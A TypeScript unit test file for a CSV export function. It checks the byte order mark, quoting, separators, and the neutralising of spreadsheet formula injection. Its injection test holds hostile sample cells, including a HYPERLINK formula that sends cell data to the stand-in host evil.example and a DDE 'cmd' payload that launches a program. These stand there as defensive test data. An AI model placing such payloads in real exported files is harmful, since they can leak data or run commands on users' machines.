import { toCsv } from './to-csv';

const BOM = '\uFEFF';

// The lines of a CSV text after its byte order mark.
const linesOf = (text: string): string[] => text.slice(BOM.length).split('\r\n');

describe('toCsv: CSV for spreadsheets', () => {
  it('starts with a UTF-8 byte order mark, so that Excel in French reads the accents', () => {
    const text = toCsv([{ prestataire: 'Sécurité Île-de-France' }]);
    expect([...Buffer.from(text, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(linesOf(text)).toEqual(['prestataire', 'Sécurité Île-de-France', '']);
  });

  it('puts a quote before a text cell a spreadsheet would run as a formula (=, +, -, @, tab, CR)', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
      '+33 1 23 45 67 89',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
    ];
    const text = toCsv(hostile.map((commentaire) => ({ commentaire })));
    expect(linesOf(text)).toEqual([
      'commentaire',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")"`,
      "'+33 1 23 45 67 89",
      "'-2+3+cmd|' /C calc'!A0",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      `"'\r=1+1"`,
      "'＝1+1",
      '',
    ]);
  });

  it('writes numbers as they are, negative ones included; the text "-12" is text and gets its quote', () => {
    const text = toCsv([{ montant: -1250.5, ecart: -3n, saisi: '-12', total: 0 }], ';');
    expect(linesOf(text)).toEqual(['montant;ecart;saisi;total', "-1250.5;-3;'-12;0", '']);
  });

  it('neutralises headings too: a column named from user text is a cell like any other', () => {
    const text = toCsv({ '=cmd': { n: 1 }, Dupont: { n: 2 } });
    expect(linesOf(text)).toEqual(['key,n', "'=cmd,1", 'Dupont,2', '']);
    expect(linesOf(toCsv([{ '@x': 1 }]))[0]).toBe("'@x");
  });

  it('keeps RFC 4180 quoting and the separator asked for; booleans, nulls, dates and objects as before', () => {
    const text = toCsv(
      [
        {
          nom: 'Martin; fils',
          note: 'dit "oui"\nsur deux lignes',
          actif: true,
          vide: null,
          le: new Date('2025-03-01T08:00:00.000Z'),
          detail: { a: 1 },
        },
      ],
      ';',
    );
    expect(text.slice(BOM.length)).toBe(
      'nom;note;actif;vide;le;detail\r\n' +
        '"Martin; fils";"dit ""oui""\nsur deux lignes";true;;2025-03-01T08:00:00.000Z;"{""a"":1}"\r\n',
    );
  });

  it('refuses a result that has no rows (exit 5)', () => {
    expect(() => toCsv(42)).toThrow(expect.objectContaining({ exitCode: 5 }));
  });

  it('refuses a separator that is not one readable character (exit 2): empty, two characters, a quote, a line break', () => {
    for (const separator of ['', ';;', '"', '\r\n', '\u0007']) {
      expect(() => toCsv([{ a: 1, b: 2 }], separator)).toThrow(
        expect.objectContaining({
          exitCode: 2,
          message: expect.stringContaining('un seul caractère attendu'),
        }),
      );
    }
    expect(
      toCsv([{ a: 1, b: 2 }], '\t')
        .slice(1)
        .split('\r\n'),
    ).toEqual(['a\tb', '1\t2', '']);
  });
});
